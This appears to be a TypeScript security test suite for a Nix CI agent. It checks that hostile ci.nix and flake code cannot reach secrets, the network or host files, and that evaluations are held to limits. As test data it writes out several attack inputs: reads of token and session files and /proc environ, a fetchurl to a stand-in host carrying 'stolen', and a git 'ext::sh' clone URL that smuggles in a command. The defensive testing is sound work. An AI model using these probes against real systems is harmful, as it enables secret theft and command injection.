/**
 * Evaluated code is hostile (docs/security.md): a repository's ci.nix or flake, evaluated by a
 * real agent with real Nix, must not reach the agent's token, session or secrets files — by
 * absolute or relative path, through /proc, through Nix 2.8's fetchTree and builtins.path holes
 * — nor the network unless allowedUris opens it; builders run as Nix's build users; and an
 * evaluation that runs too long, takes too much memory or reports too much fails cleanly.
 */
import assert from "node:assert/strict";
import { execFile, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { promisify } from "node:util";
import { after, before, describe, it } from "node:test";
import type { EvaluationEvent } from "@nimbus/protocol";
import { parseAgentConfig } from "../src/config.ts";
import { evaluatorEnvironment, type IsolationPlan, isolatedCommand, outermost, planIsolation } from "../src/evaluation-isolation.ts";
import { AgentConfigError } from "../src/errors.ts";
import { EvaluationFailure, nixString, TopLevelEntryCounter, walkAttributes } from "../src/nix-walk.ts";
import { runProcess } from "../src/process.ts";
import { ManualClock } from "./manual-clock.ts";
import { FLAKE_PRELUDE, gitRepo, nixEval, NONCE, PRELUDE, startTaskAgent, type TaskSetup, tmpRoot } from "./task-fixtures.ts";
import { FakeService, GOOD_TOKEN } from "./fake-service.ts";

const run = promisify(execFile);
let dir: string;
let setup: TaskSetup;
/** What the evaluator must never see: the token, the session's secret, a secrets file. */
let secrets: { token: string; session: string; secretsFile: string; secretsText: string; base: string };
let counter = 0;
const taskId = (what: string) => `iso-${what}-${NONCE}-${++counter}`;

before(async () => {
  dir = await tmpRoot();
  const secretsText = `nimbus-secret-${randomBytes(12).toString("hex")}`;
  setup = await startTaskAgent(dir, `secretsJsonPath = "secrets.json"`);
  const base = path.dirname(setup.workDirectory);
  await writeFile(path.join(base, "secrets.json"), secretsText, { mode: 0o600 });
  const session = JSON.parse(await readFile(path.join(setup.workDirectory, "session.json"), "utf8")) as { secret: string };
  secrets = { token: GOOD_TOKEN, session: session.secret, secretsFile: path.join(base, "secrets.json"), secretsText, base };
});
after(async () => {
  await setup.stop();
  await rm(dir, { recursive: true, force: true });
});

async function evaluate(target: TaskSetup, files: Record<string, string>, id = taskId("t")) {
  const repo = await gitRepo(dir, files);
  target.service.send({ type: "evaluate", taskId: id, jobId: "job-iso", repository: "test/hostile", cloneUrl: repo.dir, commit: repo.commit });
  const finished = await target.finishedTask(id, 60_000);
  return { id, finished, ...target.service.evaluation(id) };
}

function errorsByName(events: EvaluationEvent[]): Record<string, string> {
  return Object.fromEntries(events.flatMap((e) => (e.kind === "attribute-error" ? [[e.path.join("."), e.message]] : [])));
}

/** Nothing the agent said (messages to the service, log lines) holds any of the secrets. */
function assertNoSecretIn(target: TaskSetup, what: string): void {
  // `hello` carries the session to the service, which is where it belongs; nothing else may.
  const frames = target.service.connections.flatMap((c) => c.frames).filter((f) => !f.startsWith(`{"type":"hello"`));
  const said = [...frames, ...target.lines].join("\n");
  for (const [name, value] of Object.entries({ token: secrets.token, session: secrets.session, secretsFile: secrets.secretsText })) {
    assert.ok(!said.includes(value), `${what}: the ${name} appears in what the agent sent or logged`);
  }
}

const RESTRICTED = /forbidden in (restricted mode|pure eval mode)/;
const HINT = /Nimbus evaluates in Nix's restricted mode/;

describe("what a ci.nix can reach", () => {
  it("cannot read the token, the session or a secrets file by absolute or relative path, nor through /proc", async () => {
    const work = setup.workDirectory;
    const read = (p: string) => `builtins.readFile ${p.startsWith("/") ? JSON.stringify(p) : p}`;
    // The checkout is <work>/eval/<task>/repo: three levels up is the work directory.
    const ciNix = `let ${PRELUDE} in {
      tokenAbsolute = ${read(path.join(secrets.base, "token.key"))};
      tokenRelative = ${read("../../../../token.key")};
      sessionAbsolute = ${read(path.join(work, "session.json"))};
      sessionRelative = ${read("../../../session.json")};
      secretsRelative = ${read("../../../../secrets.json")};
      dotdotInString = ${read(`${work}/eval/../session.json`)};
      procSelf = ${read("/proc/self/environ")};
      procAgent = ${read(`/proc/${process.pid}/environ`)};
      procAgentRoot = ${read(`/proc/${process.pid}/root${path.join(secrets.base, "token.key")}`)};
      pathExists = if builtins.pathExists ${JSON.stringify(path.join(work, "session.json"))} then mk "exists" "echo > $out" else throw "pathExists says there is no session";
      nixpkgs = (import <nixpkgs> { }).hello;
      fetch = mk "fetch" "cat \${builtins.fetchurl "https://example.invalid/?t=stolen"}";
      env = mk "env-\${builtins.getEnv "HOME"}" "echo > $out";
      fine = mk "isolation-fine" "echo > $out";
    }`;
    const { finished, events, done } = await evaluate(setup, { "ci.nix": ciNix });
    assert.equal(finished.status, "succeeded", finished.error);
    assert.equal(done?.status, "succeeded");
    const errors = errorsByName(events);
    for (const name of ["tokenAbsolute", "tokenRelative", "sessionAbsolute", "sessionRelative", "secretsRelative", "dotdotInString", "procSelf", "procAgent", "procAgentRoot", "fetch"]) {
      assert.match(errors[name] ?? "(no error)", RESTRICTED, `${name}: ${errors[name]}`);
      assert.match(errors[name]!, HINT, `${name} says why`);
    }
    assert.match(errors.pathExists ?? "", /pathExists says there is no session/);
    assert.match(errors.nixpkgs ?? "", /file 'nixpkgs' was not found in the Nix search path/);
    assert.match(errors.nixpkgs!, HINT);
    const attributes = events.flatMap((e) => (e.kind === "attribute" ? [e.path.join(".")] : []));
    assert.deepEqual(attributes, ["env", "fine"], "getEnv gives nothing (the derivation is named env-)");
    const env = events.find((e) => e.kind === "derivation" && e.drvPath.endsWith("-nimbus-test-env-.drv"));
    assert.ok(env, "getEnv returned the empty string");
    assertNoSecretIn(setup, "hostile ci.nix");
  });

  it("cannot copy them into the store through a flake's fetchTree or builtins.path (Nix 2.8 lets those past restricted mode)", async () => {
    const target = secrets.secretsFile;
    const fake = "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";
    const flake = `{
      outputs = { self }: let ${FLAKE_PRELUDE} in {
        checks.x86_64-linux = {
          fetchTreePath = mk "ft-\${builtins.readFile (builtins.fetchTree { type = "path"; path = ${JSON.stringify(target)}; narHash = "${fake}"; })}" "";
          fetchTreeUnlocked = mk "ftu-\${builtins.readFile (builtins.fetchTree { type = "path"; path = ${JSON.stringify(target)}; })}" "";
          pathWithHash = mk "p-\${builtins.readFile (builtins.path { path = ${JSON.stringify(target)}; sha256 = "0000000000000000000000000000000000000000000000000000"; })}" "";
          fetchTreeFile = mk "ftf-\${builtins.readFile (builtins.fetchTree { type = "file"; url = "file://${target}"; })}" "";
          getFlake = (builtins.getFlake "path:${secrets.base}").x;
          fine = mk "flake-fine" "echo > $out";
        };
      };
    }`;
    const { finished, events } = await evaluate(setup, { "flake.nix": flake });
    assert.equal(finished.status, "succeeded", finished.error);
    const errors = errorsByName(events);
    assert.deepEqual(Object.keys(errors).sort(), [
      "checks.x86_64-linux.fetchTreeFile",
      "checks.x86_64-linux.fetchTreePath",
      "checks.x86_64-linux.fetchTreeUnlocked",
      "checks.x86_64-linux.getFlake",
      "checks.x86_64-linux.pathWithHash",
    ]);
    // Where the file would be had it been copied: its NAR hash under the names Nix gives it.
    const { stdout: narHash } = await run("nix-hash", ["--type", "sha256", "--base32", target]);
    for (const name of ["source", "secrets.json"]) {
      const { stdout } = await run("nix-store", ["--print-fixed-path", "--recursive", "sha256", narHash.trim(), name]);
      assert.equal(existsSync(stdout.trim()), false, `the secrets file was copied into the store as ${stdout.trim()}`);
    }
    const { stdout: sri } = await run("nix", ["--extra-experimental-features", "nix-command", "hash", "path", target]);
    assert.ok(!Object.values(errors).join("\n").includes(sri.trim()), "no error message gives away the file's hash");
    assertNoSecretIn(setup, "hostile flake");
  });

  it("still builds what import-from-derivation needs, with no network, and writes .drv files", async () => {
    const ciNix = `let ${PRELUDE}
      generated = import (mk "ifd-gen" "echo '\\"from-ifd\\"' > $out");
    in { ifd = mk "ifd-\${generated}" "echo > $out"; }`;
    const { finished, events } = await evaluate(setup, { "ci.nix": ciNix });
    assert.equal(finished.status, "succeeded", finished.error);
    const attribute = events.find((e) => e.kind === "attribute");
    assert.ok(attribute?.kind === "attribute" && attribute.drvPath.endsWith("-nimbus-test-ifd-from-ifd.drv"), JSON.stringify(events));
    assert.ok(existsSync(attribute.drvPath), "the .drv is in the store");
  });
});

describe("allowedUris", () => {
  let server: Server;
  const requests: string[] = [];
  let url: string;
  let open: TaskSetup;

  before(async () => {
    server = createServer((request, response) => {
      requests.push(request.url ?? "");
      response.end(`served ${request.url}`);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    open = await startTaskAgent(dir, `allowedUris = ["${url}/allowed/"]`);
  });
  after(async () => {
    await open.stop();
    server.close();
  });

  const fetching = (p: string) => `mk "fetched" "cat \${builtins.fetchurl "${url}${p}"} > $out"`;
  const ciNix = () => `let ${PRELUDE} in { allowed = ${fetching(`/allowed/${NONCE}`)}; other = ${fetching(`/other/${NONCE}`)}; }`;

  it("by default sends nothing out: fetching is refused and the evaluator has no network", async () => {
    const before = requests.length;
    const { finished, events } = await evaluate(setup, { "ci.nix": ciNix() });
    assert.equal(finished.status, "succeeded", finished.error);
    const errors = errorsByName(events);
    assert.match(errors.allowed ?? "", /access to URI '.*\/allowed\/.*' is forbidden in restricted mode/);
    assert.match(errors.other ?? "", RESTRICTED);
    assert.equal(requests.length, before, "no request reached the server");
  });

  it("lets the listed prefixes be fetched, and only those", async () => {
    const before = requests.length;
    const { finished, events } = await evaluate(open, { "ci.nix": ciNix() });
    assert.equal(finished.status, "succeeded", finished.error);
    const errors = errorsByName(events);
    assert.deepEqual(Object.keys(errors), ["other"]);
    assert.match(errors.other!, /access to URI '.*\/other\/.*' is forbidden in restricted mode/);
    assert.deepEqual(events.flatMap((e) => (e.kind === "attribute" ? [e.path[0]] : [])), ["allowed"]);
    assert.deepEqual(requests.slice(before), [`/allowed/${NONCE}`]);
  });
});

describe("builders", () => {
  it("run as a build user that cannot read the token, the session or the agent's environment", async () => {
    const token = path.join(secrets.base, "token.key");
    const session = path.join(setup.workDirectory, "session.json");
    const script = [
      "echo uid=$(/usr/bin/id -u)",
      `for f in ${token} ${session} ${secrets.secretsFile} /proc/${process.pid}/environ; do`,
      '  if read -r line < "$f"; then echo "read $f: $line"; else echo "cannot read $f"; fi',
      "done",
      "echo > $out",
    ].join("\n");
    const { drvPath } = await nixEval<{ drvPath: string }>(`let ${PRELUDE} in { inherit (mk "builder-reads" ${JSON.stringify(script)}) drvPath; }`, dir);
    const id = taskId("build");
    setup.service.send({ type: "build", taskId: id, drvPath, system: "x86_64-linux", requiredFeatures: [] });
    const finished = await setup.finishedTask(id, 60_000);
    assert.equal(finished.status, "succeeded", finished.error);
    const lines = setup.logLines(id);
    const uid = Number(lines.find((l) => l.startsWith("uid="))?.slice(4));
    assert.ok(Number.isInteger(uid) && uid !== 0, `the builder ran as uid ${uid}, not root (${lines.join(" | ")})`);
    for (const f of [token, session, secrets.secretsFile, `/proc/${process.pid}/environ`]) {
      assert.ok(lines.includes(`cannot read ${f}`), `the builder read ${f}: ${lines.join(" | ")}`);
    }
    assertNoSecretIn(setup, "builder");
  });
});

describe("limits", () => {
  it("stops an evaluation past evaluationTimeoutSeconds, its builders with it, and goes on", async () => {
    const clock = new ManualClock();
    const timed = await startTaskAgent(dir, "evaluationTimeoutSeconds = 120", {}, { clock });
    try {
      const marker = `nimbus-sleeper-${NONCE}`;
      const repo = await gitRepo(dir, {
        "ci.nix": `let ${PRELUDE} in { slow = import (mk "slow" ": ${marker}; /bin/sleep 1000; echo 1 > $out"); }`,
      });
      const id = taskId("slow");
      timed.service.send({ type: "evaluate", taskId: id, jobId: "job-iso", repository: "test/slow", cloneUrl: repo.dir, commit: repo.commit });
      await poll(async () => (await sleepers(marker)).length > 0, "the import-from-derivation builder to start");
      await advanceGently(clock, 119_000);
      assert.equal(timed.finished.length, 0, "still running before the limit");
      await advanceGently(clock, 1_000);
      const finished = await timed.finishedTask(id, 30_000).catch((err: Error) => {
        throw new Error(`${err.message}\n${timed.lines.join("\n")}`);
      });
      assert.equal(finished.status, "failed");
      assert.match(timed.service.evaluation(id).done?.error ?? "", /took longer than 2 min \(evaluationTimeoutSeconds\)/);
      await poll(async () => (await sleepers(marker)).length === 0, "the builder to be gone");
      assert.ok(timed.agent.connected(), "the agent is still connected");
    } finally {
      await timed.stop();
    }
  });

  it("fails an evaluation that needs more memory than evaluationMemoryMiB, naming the limit", async () => {
    const small = await startTaskAgent(dir, "evaluationMemoryMiB = 256");
    try {
      const { finished, events, done } = await evaluate(small, {
        "ci.nix": `let ${PRELUDE} in { big = mk "big-\${toString (builtins.length (builtins.genList (x: x * 2) 100000000))}" ""; fine = mk "mem-fine" "echo > $out"; }`,
      });
      assert.equal(finished.status, "succeeded", finished.error);
      assert.equal(done?.status, "succeeded");
      const errors = errorsByName(events);
      assert.match(errors.big ?? "", /out of memory/);
      assert.match(errors.big!, /at most 256 MiB \(evaluationMemoryMiB\)/);
      assert.deepEqual(events.flatMap((e) => (e.kind === "attribute" ? [e.path[0]] : [])), ["fine"]);
    } finally {
      await small.stop();
    }
  });

  it("fails an evaluation reporting more than evaluationMaxAttributes, then evaluates the next one as usual", async () => {
    const capped = await startTaskAgent(dir, "evaluationMaxAttributes = 50");
    try {
      const many = await evaluate(capped, {
        "ci.nix": `let ${PRELUDE} in builtins.listToAttrs (builtins.genList (i: { name = "a\${toString i}"; value = mk "cap-\${toString i}" "echo > $out"; }) 200)`,
      });
      assert.equal(many.finished.status, "failed");
      assert.equal(many.done?.status, "failed");
      assert.match(many.done?.error ?? "", /reports more than 50 attributes \(evaluationMaxAttributes\)/);
      assert.deepEqual(many.events, [], "nothing was reported");
      assert.ok(capped.agent.connected());
      const next = await evaluate(capped, { "ci.nix": `let ${PRELUDE} in { one = mk "cap-one" "echo > $out"; }` });
      assert.equal(next.finished.status, "succeeded", next.finished.error);
    } finally {
      await capped.stop();
    }
  });
});

describe("the walker's output limits", () => {
  it("counts the walker's entries as they stream, whatever the strings hold and wherever the chunks split", () => {
    const text = JSON.stringify([
      { path: ["a{b", "c\"}{"], drvPath: "/nix/store/x-a.drv" },
      { path: ["[nested]"], failed: true },
      { path: ["\\"], drvPath: "/nix/store/x-{}.drv" },
    ]);
    for (const size of [1, 2, 3, 7, text.length]) {
      const counter = new TopLevelEntryCounter();
      for (let i = 0; i < text.length; i += size) counter.push(Buffer.from(text.slice(i, i + size)));
      assert.equal(counter.count, 3, `chunks of ${size}`);
    }
  });

  it("writes any text as a Nix string", async () => {
    const text = 'a "quoted" \\ back ${notInterpolated} $plain \n line';
    const { stdout } = await run("nix-instantiate", ["--eval", "--json", "--expr", nixString(text)]);
    assert.equal(JSON.parse(stdout.trim()), text);
  });

  it("stops a walk whose output passes its byte limit, with a clear failure", async () => {
    const repo = await gitRepo(dir, {
      "ci.nix": `let ${PRELUDE} in builtins.listToAttrs (builtins.genList (i: { name = "attribute-\${toString i}"; value = mk "bytes-\${toString i}" "echo > $out"; }) 300)`,
    });
    const walk = walkAttributes({
      source: { kind: "file", file: path.join(repo.dir, "ci.nix") },
      repo: repo.dir,
      systems: ["x86_64-linux"],
      herculesCIArgs: {},
      optionArgs: ["--option", "substituters", ""],
      allowedUris: [],
      evaluate: (args, stdin, limits) => runProcess("nix-instantiate", args, { stdin, processGroup: true, ...limits }),
      signal: new AbortController().signal,
      message: (stderr) => stderr,
      maxAttributes: 100_000,
      maxOutputBytes: 10_000,
    });
    await assert.rejects(walk, (err: unknown) => err instanceof EvaluationFailure && /its attributes take more than 10000 bytes to list/.test(err.message));
  });
});

describe("when the evaluator cannot be isolated", () => {
  const fixture = new URL("./fixtures/run-agent-command.ts", import.meta.url).pathname;
  /** `nimbus agent` in a process whose PATH has an `unshare` that fails as a kernel without namespaces would. */
  async function runWithoutNamespaces(service: FakeService, extraToml: string) {
    const base = await mkdtemp(path.join(dir, "no-ns-"));
    const bin = path.join(base, "bin");
    await mkdir(bin);
    await writeFile(path.join(bin, "unshare"), "#!/bin/sh\necho 'unshare: unshare failed: Operation not permitted' >&2\nexit 1\n", { mode: 0o755 });
    await writeFile(path.join(base, "token.key"), GOOD_TOKEN, { mode: 0o600 });
    await writeFile(path.join(base, "agent.toml"), `apiBaseUrl = "${service.apiBaseUrl}"\nclusterJoinTokenPath = "token.key"\n${extraToml}\n`);
    const child = spawn(process.execPath, ["--import", "tsx", fixture, path.join(base, "agent.toml")], {
      env: { ...process.env, PATH: `${bin}:${process.env.PATH}` },
      stdio: ["ignore", "ignore", "pipe"],
    });
    let stderr = "";
    child.stderr.on("data", (d) => (stderr += d));
    const exited = new Promise<number | null>((resolve) => child.on("exit", (code) => resolve(code)));
    return { child, exited, stderr: () => stderr };
  }

  it("refuses to start, saying why and what to do, unless evaluationIsolation = \"none\"", async () => {
    const service = await FakeService.start({ heartbeatIntervalMs: 60_000 });
    try {
      const refused = await runWithoutNamespaces(service, "");
      assert.equal(await refused.exited, 1, refused.stderr());
      assert.match(refused.stderr(), /cannot isolate evaluations \(unshare: unshare failed: Operation not permitted\)/);
      assert.match(refused.stderr(), /set evaluationIsolation = "none"/);
      assert.equal(service.hellos.length, 0, "it never connected");

      const trusting = await runWithoutNamespaces(service, 'evaluationIsolation = "none"');
      await service.until(() => service.hellos.length === 1, `the agent to connect (stderr: ${trusting.stderr()})`, 20_000);
      assert.match(trusting.stderr(), /warn evaluationIsolation = "none": evaluated code is held only by Nix's restricted mode/);
      trusting.child.kill("SIGTERM");
      assert.equal(await trusting.exited, 0, trusting.stderr());
    } finally {
      await service.close();
    }
  });

  it("with evaluationIsolation = \"none\", still evaluates in restricted mode", async () => {
    const plain = await startTaskAgent(dir, 'evaluationIsolation = "none"');
    try {
      const token = path.join(path.dirname(plain.workDirectory), "token.key");
      const { finished, events } = await evaluate(plain, {
        "ci.nix": `let ${PRELUDE} in { token = mk "t" (builtins.readFile "${token}"); session = mk "s" (builtins.readFile ../../../session.json); }`,
      });
      assert.equal(finished.status, "succeeded", finished.error);
      const errors = errorsByName(events);
      assert.match(errors.token ?? "", RESTRICTED);
      assert.match(errors.session ?? "", RESTRICTED);
    } finally {
      await plain.stop();
    }
  });
});

describe("repositories on the agent's disk", () => {
  it("are refused unless allowLocalRepositories is set, by file:// URL or path", async () => {
    const strict = await startTaskAgent(dir, "allowLocalRepositories = false");
    try {
      const repo = await gitRepo(dir, { "ci.nix": "{ }" });
      for (const cloneUrl of [repo.dir, `file://${repo.dir}`, `ext::sh -c touch% /tmp/pwned-${NONCE}`]) {
        const id = taskId("local");
        strict.service.send({ type: "evaluate", taskId: id, jobId: "job-iso", repository: "test/local", cloneUrl, commit: repo.commit });
        const finished = await strict.finishedTask(id, 30_000);
        assert.equal(finished.status, "failed");
        assert.match(strict.service.evaluation(id).done?.error ?? "", /on the agent's own disk: this agent fetches only https:\/\/ and ssh repositories \(allowLocalRepositories is off\)|git over ext is not allowed/);
      }
      assert.equal(existsSync(`/tmp/pwned-${NONCE}`), false);
    } finally {
      await strict.stop();
    }
  });
});

/** Processes whose command line holds `marker` (the builder's shell: a build user's, in the evaluator's namespaces). */
async function sleepers(marker: string): Promise<string[]> {
  const { stdout } = await run("ps", ["-eo", "pid=,args="]);
  return stdout.split("\n").filter((l) => l.includes(`: ${marker}; /bin/sleep 1000`));
}

async function poll(check: () => Promise<boolean>, what: string, timeoutMs = 30_000): Promise<void> {
  for (const deadline = Date.now() + timeoutMs; !(await check()); ) {
    if (Date.now() > deadline) assert.fail(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** Moves the clock in 5 s steps, letting heartbeat acks arrive in between (they come in real time). */
async function advanceGently(clock: ManualClock, ms: number): Promise<void> {
  for (let left = ms; left > 0; left -= 5_000) {
    clock.advance(Math.min(5_000, left));
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

describe("the isolation plan", () => {
  const config = (extra = "") => parseAgentConfig(`apiBaseUrl = "http://127.0.0.1:4800"\nclusterJoinTokenPath = "token.key"\n${extra}`, dir);

  it("hides the agent's own paths, the home and temporary directories, each once (outermost)", async () => {
    const home = await mkdtemp(path.join(dir, "home-"));
    const plan = planIsolation(config(`evaluationHiddenPaths = ["${home}/deep"]`), { home, tmpdir: "/tmp", root: true });
    const hidden = plan.hidden.map((h) => `${h.kind} ${h.path}`);
    assert.ok(hidden.includes("directory /tmp"), hidden.join("\n"));
    assert.ok(!hidden.some((h) => h.includes(dir)), "everything under /tmp is hidden with it");
    assert.ok(hidden.includes("file /etc/shadow"));
    assert.deepEqual(outermost(["/a/b", "/a", "/c", "/a/b/c", "/ab"]), ["/a", "/ab", "/c"]);
    assert.equal(plan.network, false);
    assert.equal(plan.userNamespace, false);
  });

  it("refuses a configured path that would hide the Nix store", () => {
    assert.throws(
      () => planIsolation(config(`evaluationHiddenPaths = ["/nix"]\nbaseDirectory = "/"`), { root: true }),
      (err: unknown) =>
        err instanceof AgentConfigError &&
        err.problems.some((p) => p.includes('"baseDirectory" (/) would hide what Nix needs')) &&
        err.problems.some((p) => p.includes('"evaluationHiddenPaths" (/nix) would hide what Nix needs')),
    );
  });

  it("passes the evaluator only what Nix needs from the environment", () => {
    const plan = planIsolation(config(), { root: true });
    const env = evaluatorEnvironment(plan, "/w/tmp", { PATH: "/usr/bin", NIX_REMOTE: "daemon", NIX_PATH: "nixpkgs=/x", AWS_SECRET_ACCESS_KEY: "s", https_proxy: "http://u:p@proxy" });
    assert.deepEqual(env, { PATH: "/usr/bin", NIX_REMOTE: "daemon", HOME: "/w/tmp", XDG_CACHE_HOME: "/w/tmp", XDG_CONFIG_HOME: "/w/tmp", XDG_DATA_HOME: "/w/tmp", TMPDIR: "/w/tmp" });
  });

  it("works without root: a user namespace, where the hidden paths are covered and the task's directory is not", async () => {
    const secretDir = await mkdtemp(path.join("/var/tmp", "nimbus-hidden-"));
    const task = path.join(secretDir, "work", "eval", "t");
    try {
      await mkdir(task, { recursive: true });
      await writeFile(path.join(secretDir, "token.key"), "unprivileged-secret");
      await writeFile(path.join(task, "mine"), "visible");
      for (const p of [secretDir, path.join(secretDir, "work"), path.join(secretDir, "work", "eval"), task]) await chmod(p, 0o755);
      await chmod(path.join(secretDir, "token.key"), 0o644);
      await chmod(path.join(task, "mine"), 0o644);
      const secretFile = `${secretDir}-file`;
      await writeFile(secretFile, "unprivileged-file-secret", { mode: 0o644 });
      const plan: IsolationPlan = {
        mode: "namespaces",
        hidden: [
          { path: secretDir, kind: "directory" },
          { path: secretFile, kind: "file" },
        ],
        network: false,
        userNamespace: true,
        memoryBytes: 1 << 30,
      };
      const script = `cat ${secretDir}/token.key 2>&1; cat ${secretFile}; echo "[file read]"; cat mine; echo; ls -A ${secretDir}`;
      const { command, args } = isolatedCommand(plan, task, task, "/bin/sh", ["-c", script]);
      const { stdout } = await run("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", command, ...args], { env: { PATH: process.env.PATH } });
      await rm(secretFile, { force: true });
      assert.ok(!stdout.includes("unprivileged-secret"), stdout);
      assert.ok(!stdout.includes("unprivileged-file-secret"), stdout);
      assert.match(stdout, /^\[file read\]$/m, "the file reads as empty");
      assert.match(stdout, /No such file or directory/);
      assert.match(stdout, /visible/);
      assert.match(stdout, /^work$/m, "only the way to the task's directory is there");
    } finally {
      await rm(secretDir, { recursive: true, force: true });
    }
  });
});
